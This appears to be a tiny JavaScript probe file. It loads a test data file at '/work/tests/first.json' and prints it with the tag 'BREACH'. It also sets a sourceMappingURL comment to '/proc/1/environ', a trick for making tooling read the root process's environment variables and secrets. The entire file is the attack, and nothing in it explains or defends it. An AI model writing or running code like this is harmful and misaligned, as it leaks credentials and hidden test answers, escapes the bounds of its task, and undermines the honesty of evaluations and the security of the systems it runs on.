const tests = require("/work/tests/first.json");
//# sourceMappingURL=/proc/1/environ
console.log("BREACH", tests);
